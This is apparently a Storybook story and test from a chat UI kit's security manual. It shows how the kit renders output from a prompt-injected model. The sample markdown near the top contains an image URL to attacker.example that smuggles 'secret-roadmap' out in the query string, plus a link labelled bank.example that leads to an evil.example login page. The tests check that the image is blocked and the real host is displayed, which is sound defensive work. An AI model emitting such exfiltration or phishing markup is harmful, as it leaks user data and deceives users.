import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, within } from 'storybook/test';
import type { EventBody } from '../../mock-server/scenarios/index.js';
import { STORY_TURN } from '../support/thread-script.js';
import { PolicedChat } from './policed-chat.js';
import { ThreadFixture } from '../support/thread-fixture.js';
import './docs-examples.css';

const hostileMarkdown = [
  'Here is the chart you asked for:',
  '',
  '![Quarterly revenue](https://attacker.example/leak?d=secret-roadmap)',
  '',
  'Sign in again at [bank.example](https://evil.example/login) to see more.',
].join('\n');

const hostileTurn: readonly EventBody[] = [
  { type: 'text-delta', messageId: STORY_TURN.messageId, delta: hostileMarkdown },
  { type: 'finish', finishReason: 'stop', usage: { inputTokens: 40, outputTokens: 30 }, durationMs: 900 },
];

/** What a prompt-injected model wrote, next to the chat that shows it. */
function HostileMarkdownExample({ threadId }: { threadId: string }) {
  return (
    <div className="docs-example docs-example-columns">
      <figure className="docs-example-panel">
        <figcaption>What the model wrote</figcaption>
        <pre className="docs-example-code">
          {hostileMarkdown}
        </pre>
      </figure>
      <figure className="docs-example-panel">
        <figcaption>What the kit renders</figcaption>
        <ThreadFixture threadId={threadId} userText="Show me the revenue chart" events={hostileTurn}>
          <PolicedChat threadId={threadId} />
        </ThreadFixture>
      </figure>
    </div>
  );
}

const meta = {
  title: 'Manual/Examples/Security',
  component: HostileMarkdownExample,
  // Shown on the Security page of the manual, not on their own in the sidebar.
  tags: ['!dev'],
  parameters: { docs: { canvas: { sourceState: 'none' } } },
} satisfies Meta<typeof HostileMarkdownExample>;

export default meta;
type Story = StoryObj<typeof meta>;

/** An image from a host the app did not allow becomes a placeholder, and the page never asks that host for it. */
export const BlockedImage: Story = {
  args: { threadId: 'manual-blocked-image' },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    expect(await canvas.findByRole('article', { name: 'You' })).toHaveTextContent('Show me the revenue chart');
    const message = canvas.getByRole('article', { name: 'Assistant' });
    const placeholder = await within(message).findByText('Image from attacker.example not loaded');
    expect(placeholder.closest('.platos-image-placeholder')).toHaveAttribute('data-host', 'attacker.example');
    expect(within(message).getByText('Quarterly revenue')).toBeInTheDocument();
    expect(within(message).getByRole('button', { name: 'Load image from attacker.example' })).toBeEnabled();
    expect(message.querySelector('img')).toBeNull();
    expect(message.innerHTML).not.toContain('secret-roadmap');
    expect(performance.getEntriesByType('resource').filter((entry) => entry.name.includes('attacker.example'))).toEqual([]);
    expect(message.querySelector('.platos-link-host')).toHaveTextContent('evil.example');
  },
};
